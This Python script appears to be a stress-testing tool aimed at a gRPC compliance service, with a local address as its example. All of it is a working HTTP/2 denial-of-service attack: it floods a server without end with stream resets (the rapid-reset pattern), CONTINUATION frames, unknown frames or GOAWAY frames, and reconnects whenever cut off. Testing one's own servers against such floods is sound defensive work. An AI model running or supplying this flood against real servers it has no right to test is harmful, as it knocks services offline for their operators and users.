"""Sends HTTP/2 frames without end: `python frame_flood.py 127.0.0.1:50051 resets`. Arguments: the address, and the kind of
flood (`resets`: streams that are opened and reset)."""

import contextlib
import itertools
import socket
import struct
import sys
import threading
import time

PATH = b"/compliance_gateway.v1.ComplianceAssignmentService/ListComplianceAssignments"
DATA, HEADERS, RESET, SETTINGS, GOAWAY, CONTINUATION, UNKNOWN = 0, 1, 3, 4, 7, 9, 200
END_HEADERS, END_STREAM, ACK = 4, 1, 1
STREAMS, PIECE = 200_000, 1 << 20
CANCEL = struct.pack(">I", 8)


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index: bytes, value: bytes) -> bytes:
    """A header field in HPACK. index: its name as an index into the static table (RFC 7541, appendix A), or the encoding of a
    new name."""
    return index + bytes([len(value)]) + value


def block_of(path: bytes) -> bytes:
    """The header block of a call without a token."""
    fields = literal(b"\x04", path), literal(b"\x01", b"x"), literal(b"\x0f\x10", b"application/grpc")
    return b"\x83\x86" + b"".join(fields) + literal(b"\x00\x02te", b"trailers")


BLOCK = block_of(PATH)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0) + frame(SETTINGS, ACK, 0)


MESSAGE = bytes(5)


def resets(streams: int) -> bytes:
    """Frames that open and reset this many streams."""
    return b"".join(
        frame(HEADERS, END_HEADERS, n, BLOCK) + frame(DATA, END_STREAM, n, MESSAGE) + frame(RESET, 0, n, CANCEL)
        for n in range(1, 2 * streams, 2)
    )


# What comes after the preface, and what then: resets once, since no stream comes twice, and again and again what means nothing.
FLOODS = {
    "resets": lambda: (b"", resets(STREAMS)),
    "unknown": lambda: (b"", frame(UNKNOWN, 0, 0, bytes(16_000)) * 65),
    "goaway": lambda: (b"", frame(GOAWAY, 0, 0, bytes(1_000)) * 1_000),
    "continuation": lambda: (frame(HEADERS, 0, 1, BLOCK), frame(CONTINUATION, 0, 1, b"\0\1a\x7f\1" + b"b" * 128) * 7_000),
}


def drain(one: socket.socket) -> None:
    """Reads and drops the answers, because a server stops reading from a client that does not read."""
    with contextlib.suppress(OSError):
        while one.recv(1 << 16):
            pass


def flood(address: str, kind: str) -> None:
    """Floods the address, and reconnects when the connection ends. Prints a line for each piece that was sent."""
    host, port = address.split(":")
    first, data = FLOODS[kind]()
    while True:
        try:
            with socket.create_connection((host, int(port))) as one:
                threading.Thread(target=drain, args=[one], daemon=True).start()
                one.sendall(PREFACE + first)
                for start in range(0, len(data), PIECE) if kind == "resets" else itertools.repeat(0):
                    one.sendall(data[start : start + PIECE])
                    print("more", flush=True)
        except OSError:
            time.sleep(0.01)


if __name__ == "__main__":
    flood(*sys.argv[1:])
